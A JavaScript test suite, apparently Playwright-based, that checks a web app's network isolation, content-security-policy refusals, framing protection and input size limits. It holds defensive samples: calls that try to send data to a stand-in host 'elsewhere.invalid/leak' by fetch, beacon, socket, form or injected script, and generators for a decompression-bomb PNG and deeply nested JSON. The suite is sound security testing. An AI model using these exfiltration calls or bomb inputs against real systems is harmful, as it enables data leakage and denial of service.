// Nothing goes out and nothing comes in but what the release holds: every request and every script of a session, what the page
// refuses, and how large what a person hands over may be.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer, request as ask } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';

import { crc32 } from './crc32.mjs';
import { AppPage, SCREENS, SITE, freshContext, onlyInChromium, openApp, releaseOf, startSite, temporaryFolder } from './harness.mjs';
import { checked, choose, coarse, savedPlan, walkThrough } from './steps.mjs';

const PHONE = coarse(SCREENS.phone);
const OLD_LOG = readFileSync(new URL('../logs/signed_by_version_1.json', import.meta.url), 'utf8');

/** Chromium itself asks its maker how to fill in forms, whatever page is open. */
const BROWSERS_OWN = /^connect content-autofill\./;

/** A proxy that hands on what is for `site` and notes everything that is asked of anybody. */
async function recorder(t, site) {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    if (!request.url.startsWith(site.address)) return response.writeHead(502).end();
    const onward = ask({ host: '127.0.0.1', port: site.port, path: request.url.slice(site.address.length - 1), method: request.method, headers: request.headers }, (answer) => {
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    onward.on('error', () => response.destroy());
    return request.pipe(onward);
  });
  for (const event of ['connect', 'upgrade']) {
    server.on(event, (request, socket) => {
      const what = `${event} ${request.url}`;
      if (!BROWSERS_OWN.test(what)) asked.push(what);
      socket.destroy();
    });
  }
  await new Promise((listening) => { server.listen(0, '127.0.0.1', listening); });
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return { asked, proxy: { server: `http://127.0.0.1:${server.address().port}`, bypass: '<-loopback>' } };
}

// --- a session through every screen ---

const pageKey = (app, id) => app.page.locator(`#page button[data-id="${id}"]`);
const backToPlan = (app) => app.page.getByRole('button', { name: 'Back to the plan' }).click();

const SCREENS_OF_MENU = {
  share: (app) => app.page.locator('#page .qr').waitFor(),
  'read code': (app) => pageKey(app, 'camera').waitFor(),
  sheet: (app) => pageKey(app, 'print').waitFor(),
  second: (app) => pageKey(app, 'compare').waitFor(),
  log: (app) => pageKey(app, 'import log').waitFor(),
  about: (app) => app.page.locator('#about details').first().waitFor(),
};

async function visitEveryScreen(app) {
  const seen = new Set();
  await walkThrough(app, (state) => seen.add(state.screen));
  for (const [id, isThere] of Object.entries(SCREENS_OF_MENU)) {
    await choose(app, id);
    await isThere(app);
    await backToPlan(app);
  }
  await choose(app, 'text');
  await app.page.locator('#text .back').click();
  await choose(app, 'advice');
  for (let page = 0; page < 12; ++page) {
    const { widgets } = await app.state();
    const question = widgets.find(({ id, value }) => id.startsWith('ask ') && value !== 'off');
    if (question) await app.tap(question.id);
    seen.add((await app.state()).screen);
    const next = widgets.find(({ id }) => id === 'next');
    if (!next || next.value === 'off') break;
    await app.tap('next');
  }
  for (const id of ['plans', 'lock']) {
    await choose(app, id);
    seen.add((await app.state()).screen);
    if (id === 'plans') await app.tap('close plans');
  }
  return seen;
}

const hashOf = (bytes) => createHash('sha256').update(bytes).digest('base64');

/** Notes every script that the page runs, by the debugger: [promise of { url, hash }]. */
async function noteScripts(app) {
  const scripts = [];
  app.devtools.on('Debugger.scriptParsed', ({ scriptId, url }) => {
    if (url === '') return; // an evaluation: the test's own, for the page is allowed none (see below)
    const source = app.devtools.send('Debugger.getScriptSource', { scriptId });
    scripts.push(source.then(({ scriptSource, bytecode }) => ({ url, hash: hashOf(bytecode ? Buffer.from(bytecode, 'base64') : scriptSource) })));
  });
  await app.devtools.send('Debugger.enable');
  return scripts;
}

test('a session through every screen asks for the files of the release, once, and runs nothing else', onlyInChromium('to name every script'), async (t) => {
  const site = await startSite(t);
  const { asked, proxy } = await recorder(t, site);
  const context = await freshContext(t, PHONE, { proxy });
  const app = Object.assign(new AppPage(), { page: await context.newPage() });
  app.devtools = await context.newCDPSession(app.page);
  const scripts = await noteScripts(app);
  await app.page.goto(site.address);
  await app.ready();
  await app.copyReady();
  const release = releaseOf(SITE);
  const listed = new Set(['', 'sw.js', ...release.files.map(({ path }) => path)].map((path) => site.address + path));
  assert.deepEqual(asked.filter((url) => !listed.has(url)), []);
  assert.ok(asked.length >= release.files.length);

  const loaded = asked.length;
  await checked(app);
  const seen = await visitEveryScreen(app);
  assert.ok(seen.size >= 10, `screens: ${[...seen].join(', ')}`);
  await app.page.reload();
  await app.ready();
  assert.deepEqual([...new Set(asked.slice(loaded))].filter((url) => url !== `${site.address}sw.js`), [], 'asked for once the copy was made');
  const pathOf = new Map(release.files.map(({ path, sha256 }) => [sha256, path]));
  const ran = await Promise.all(scripts);
  assert.deepEqual(ran.filter(({ hash }) => !pathOf.has(hash)).map(({ url }) => url), [], 'byte for byte no file of the release');
  const paths = new Set(ran.map(({ hash }) => pathOf.get(hash)));
  for (const path of ['boot.js', 'guywright.js', 'guywright.wasm', 'lib/qr/index.js']) assert.ok(paths.has(path), `${path} was not seen to run`);
});

// --- what the page refuses ---

const ELSEWHERE = 'http://elsewhere.invalid/leak';

/** Each tries to get something out of the page or into it; the page's own policy refuses it with an event. */
const ATTEMPTS = {
  fetch: (url) => fetch(url, { mode: 'no-cors' }).catch(() => {}),
  request: (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
  socket: (url) => new WebSocket(url.replace('http', 'ws')),
  events: (url) => new EventSource(url),
  beacon: (url) => navigator.sendBeacon(url, 'plan'),
  picture: (url) => { new Image().src = url; },
  style: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  'inline style': () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'p{}' })),
  'style of an element': () => document.body.setAttribute('style', 'color:red'),
  handler: () => document.body.setAttribute('onclick', '1'),
  frame: (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
  object: (url) => document.body.append(Object.assign(document.createElement('object'), { data: url })),
  base: (url) => document.head.append(Object.assign(document.createElement('base'), { href: url })),
  form: (url) => { const form = Object.assign(document.createElement('form'), { action: url, method: 'post' }); document.body.append(form); form.submit(); },
  markup: () => { document.createElement('p').innerHTML = '<b>x</b>'; },
  script: (url) => document.head.append(Object.assign(document.createElement('script'), { src: url })),
  evaluation: () => { setTimeout('window.evaluated = true', 0); },
  worker: () => new Worker('boot.js'),
  'service worker': () => navigator.serviceWorker.register('boot.js'),
  module: (url) => import(url).catch(() => {}),
  'module of data': () => import('data:text/javascript,window.evaluated=true').catch(() => {}),
};

test('whatever would send something out or run something new is refused by the page itself, also from a host that sends no headers', async (t) => {
  const site = Object.assign(await startSite(t), { bare: true });
  const { asked, proxy } = await recorder(t, site);
  const context = await freshContext(t, PHONE, { proxy });
  const app = await AppPage.open(context, site.address);
  await app.page.evaluate(() => {
    window.refusals = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refusals.push(effectiveDirective));
  });
  for (const [what, attempt] of Object.entries(ATTEMPTS)) {
    const refusals = await app.page.evaluate(async ([source, url]) => {
      window.refusals = [];
      try {
        await source(url);
      } catch { /* refused at once */ }
      for (let i = 0; i < 3000 && window.refusals.length === 0; ++i) await new Promise((over) => { setTimeout(over, 20); });
      return window.refusals;
    }, [await app.page.evaluateHandle(`(${attempt})`), ELSEWHERE]);
    assert.ok(refusals.length > 0, `nothing has refused: ${what}`);
  }
  assert.equal(await app.page.evaluate(() => window.evaluated), undefined);
  assert.deepEqual(asked.filter((url) => !url.startsWith(site.address)), []);

  await app.copyReady();
  const [copy, sent] = await app.page.evaluate(async () => {
    const [own] = (await caches.keys()).filter((name) => name.startsWith('app-'));
    const kept = await caches.match(new URL('index.html', location.href), { cacheName: own });
    return [Object.fromEntries(kept.headers), Object.fromEntries((await fetch('boot.js')).headers)];
  });
  for (const [name, value] of Object.entries(releaseOf(SITE).headers)) assert.equal(copy[name.toLowerCase()], value);
  assert.match(copy['content-security-policy'], /frame-ancestors 'none'/);
  assert.equal(sent['x-content-type-options'], 'nosniff');
});

test('inside another page the app does not start, and says why', async (t) => {
  const site = Object.assign(await startSite(t), { bare: true });
  const outer = await startSite(t);
  outer.answers.set('/', (request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${site.address}" width="380" height="700"></iframe>`));
  const page = await (await freshContext(t, PHONE)).newPage();
  await page.goto(outer.address);
  await page.frameLocator('iframe').getByText('This page is shown inside another one').waitFor();
  site.bare = false;
  await page.reload(); // with all that is in it
  assert.ok(!page.frames().some((frame) => frame.url() === site.address), 'a host with headers lets itself be framed');
});

// --- what a person hands over ---

/** A file of 100 MB that takes no space. */
function hugeFile(t, name) {
  const path = join(temporaryFolder(t), name);
  writeFileSync(path, '');
  truncateSync(path, 100 * 1024 * 1024);
  return path;
}

/** A picture that is small as a file and huge once it is unpacked: one bit a pixel, all black. */
function hugePicture(width, height) {
  const chunk = (kind, data) => {
    const body = Buffer.concat([Buffer.from(kind), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

const asFile = (name, content, mimeType = 'application/json') => ({ name, mimeType, buffer: Buffer.from(content) });

/** A log of one entry of which `change(entry)` was made. */
function logWith(change) {
  const log = JSON.parse(OLD_LOG);
  log.entries = log.entries.slice(0, 1);
  change(log.entries[0], log);
  return JSON.stringify(log);
}

/** Each file is refused in the words given. */
async function assertRefused(app, input, files) {
  for (const [file, words] of files) {
    await app.page.locator(input).setInputFiles(file);
    await app.page.locator('#page .message').getByText(words).first().waitFor();
  }
  await backToPlan(app);
}

async function openHugePlan(app, t) {
  const [chooser] = await Promise.all([app.page.waitForEvent('filechooser'), choose(app, 'open')]);
  await chooser.setFiles(hugeFile(t, 'plan.json'));
  const notice = app.page.locator('#notice');
  await notice.getByText('"plan.json" is 102400 kB. A plan file is at most 256 kB. Nothing was opened; your plan is as it was.').waitFor();
  await notice.getByRole('button', { name: 'OK' }).click();
}

async function pasteHugeNumber(app) {
  await choose(app, 'text');
  const field = app.page.locator('#text input').first();
  await field.evaluate((input) => input.select());
  await app.page.keyboard.insertText('9'.repeat(100_000));
  assert.ok((await field.inputValue()).length <= 40);
  await field.press('Escape');
}

test('what is too large to be right is refused with its size and the limit, and changes nothing', async (t) => {
  const app = await openApp(t, PHONE);
  const before = await checked(app);
  const plan = await savedPlan(app);
  await openHugePlan(app, t);
  await choose(app, 'read code');
  await assertRefused(app, '#code-file', [
    [hugeFile(t, 'codes.txt'), '"codes.txt" is 100 MB. A plan file is at most 256 kB. Nothing was opened.'],
    [hugeFile(t, 'photo.png'), '"photo.png" is 100 MB. A picture is at most 40 MB. Nothing was opened.'],
    [asFile('wall.png', hugePicture(20_000, 12_000), 'image/png'), '"wall.png" has 240 million pixels. A picture has at most 220. Nothing was opened.'],
    [asFile('many.txt', Array.from({ length: 300 }, (_, i) => `GUYW${i}`).join('\n'), 'text/plain'), 'plan is not JSON'],
  ]);
  const deep = '['.repeat(200_000) + ']'.repeat(200_000);
  await choose(app, 'log');
  await assertRefused(app, '#log-file', [
    [hugeFile(t, 'log.json'), '"log.json" is 100 MB. A log is at most 64 MB. Nothing was read.'],
    [asFile('plans.json', logWith((entry) => { entry.plan = 'x'.repeat(20 * 1024 * 1024); })), 'damaged and set aside: 1.'],
    [asFile('deep.json', logWith((entry, log) => { log.entries = ['@']; }).replace('"@"', deep)), '"deep.json"'],
    [asFile('many.json', logWith((entry, log) => { log.entries = Array(5001).fill(0); })), '"many.json" holds 5001 entries. A log holds at most 5000. Nothing was read.'],
  ]);
  await pasteHugeNumber(app);
  await app.page.reload();
  await app.ready();
  const after = await checked(app);
  assert.deepEqual([after.check_code, after.verdict, await savedPlan(app)], [before.check_code, before.verdict, plan]);
});
